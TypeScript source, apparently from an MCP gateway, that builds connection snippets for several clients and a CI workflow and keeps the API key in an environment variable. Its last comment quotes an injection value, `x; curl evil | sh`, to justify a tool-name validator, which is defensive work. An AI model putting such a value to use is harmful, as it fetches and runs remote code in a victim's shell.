import type { UPSTREAM_TRANSPORTS } from '@/lib/words'

/** How each client is told about a connection. The key is always a variable: a real one in a snippet ends up in Git. */
export interface Snippet {
  id: string
  client: string
  /** Where it goes: a file, a shell. */
  where: string
  code: string
  /** What else there is to know. */
  note?: string
}

type UpstreamTransport = (typeof UPSTREAM_TRANSPORTS)[number]

export const KEY_VARIABLE = 'COUNTERSIGN_KEY'

interface Target {
  slug: string
  /** The gateway's address of the connection. */
  url: string
  transport: UpstreamTransport
  /** A tool that only reads, for the examples that call one. */
  readTool: string | null
}

const json = (value: unknown) => JSON.stringify(value, null, 2)

export function connectSnippets({ slug, url, transport, readTool }: Target): Snippet[] {
  // What clients call the way they speak to the gateway: to it a process of ours is Streamable HTTP too.
  const spoken = transport === 'sse' ? 'sse' : 'http'
  return [
    { id: 'curl', client: 'curl', where: 'Shell', code: spoken === 'sse' ? curlStream(url) : curl(url) },
    {
      id: 'claude-code',
      client: 'Claude Code',
      where: 'Shell',
      code: `claude mcp add --transport ${spoken} ${slug} ${url} \\
  --header "Authorization: Bearer $${KEY_VARIABLE}"`,
      note: 'The shell puts the key into your own settings. Add --scope project only with a key that the whole project may use.',
    },
    {
      id: 'vscode',
      client: 'VS Code',
      where: '.vscode/mcp.json',
      code: json({
        inputs: [{ type: 'promptString', id: 'countersign-key', description: 'Countersign key', password: true }],
        servers: { [slug]: { type: spoken, url, headers: { Authorization: `Bearer \${input:countersign-key}` } } },
      }),
      note: 'VS Code asks for the key once and keeps it in its secret store.',
    },
    {
      id: 'cursor',
      client: 'Cursor',
      where: '.cursor/mcp.json',
      code: json({ mcpServers: { [slug]: { url, headers: { Authorization: `Bearer \${env:${KEY_VARIABLE}}` } } } }),
    },
    {
      id: 'inspector',
      client: 'Inspector',
      where: 'Shell',
      code: `npx @modelcontextprotocol/inspector --cli ${url} --transport ${spoken} \\
  --header "Authorization: Bearer $${KEY_VARIABLE}" --method tools/list`,
      note: 'Needs Node 22 or newer. Without --cli it opens in the browser.',
    },
    { id: 'typescript', client: 'TypeScript SDK', where: 'TypeScript', code: typescript(url, spoken) },
    {
      id: 'python',
      client: 'Python SDK',
      where: 'Python',
      code: PYTHON[spoken](url),
      note: 'For version 2 of the package mcp.',
    },
    {
      id: 'ci',
      client: 'CI',
      where: '.github/workflows/mcp.yml',
      code: githubActions(url, spoken, readTool),
      note: 'Give each pipeline an identity and a key of its own, with an end date: then it appears in reviews under its own name.',
    },
  ]
}

const curl = (url: string) => `curl ${url} \\
  -H "Authorization: Bearer $${KEY_VARIABLE}" \\
  -H "Content-Type: application/json" \\
  -H "Accept: application/json, text/event-stream" \\
  -d '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"curl","version":"1"}}}'`

const curlStream = (url: string) => `curl -N ${url} \\
  -H "Authorization: Bearer $${KEY_VARIABLE}" \\
  -H "Accept: text/event-stream"`

type Spoken = 'http' | 'sse'

const TYPESCRIPT: Record<Spoken, { transport: string; from: string }> = {
  http: { transport: 'StreamableHTTPClientTransport', from: 'streamableHttp' },
  sse: { transport: 'SSEClientTransport', from: 'sse' },
}

const typescript = (url: string, spoken: Spoken) => `import { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { ${TYPESCRIPT[spoken].transport} } from '@modelcontextprotocol/sdk/client/${TYPESCRIPT[spoken].from}.js'

const client = new Client({ name: 'my-client', version: '1.0.0' })
await client.connect(
  new ${TYPESCRIPT[spoken].transport}(new URL('${url}'), {
    requestInit: { headers: { Authorization: \`Bearer \${process.env.${KEY_VARIABLE}}\` } },
  }),
)
const { tools } = await client.listTools()
console.log(tools.map((tool) => tool.name))`

const PYTHON: Record<Spoken, (url: string) => string> = {
  // A timeout of its own: the HTTP client's five seconds would end a stream on which nothing is said for so long.
  http: (url) => `import asyncio, os
from httpx2 import AsyncClient
from mcp import Client
from mcp.client.streamable_http import streamable_http_client

async def main():
    headers = {"Authorization": f"Bearer {os.environ['${KEY_VARIABLE}']}"}
    async with AsyncClient(headers=headers, timeout=300) as http:
        async with Client(streamable_http_client("${url}", http_client=http)) as client:
            print([tool.name for tool in (await client.list_tools()).tools])

asyncio.run(main())`,
  sse: (url) => `import asyncio, os
from mcp import Client
from mcp.client.sse import sse_client

async def main():
    headers = {"Authorization": f"Bearer {os.environ['${KEY_VARIABLE}']}"}
    async with Client(sse_client("${url}", headers=headers), mode="legacy") as client:
        print([tool.name for tool in (await client.list_tools()).tools])

asyncio.run(main())`,
}

const githubActions = (url: string, spoken: Spoken, readTool: string | null) => `jobs:
  mcp:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/setup-node@v4
        with:
          node-version: 22
      - run: >
          npx -y @modelcontextprotocol/inspector --cli ${url} --transport ${spoken}
          --header "Authorization: Bearer $${KEY_VARIABLE}"
          --method ${readTool === null || !isPlainWord(readTool) ? 'tools/list' : `tools/call --tool-name ${readTool}`}
        env:
          ${KEY_VARIABLE}: \${{ secrets.${KEY_VARIABLE} }}`

// A tool's name is the server's choice: `x; curl evil | sh` would run in whoever's shell it is pasted into.
const isPlainWord = (name: string): boolean => /^\w[\w.-]*$/.test(name)
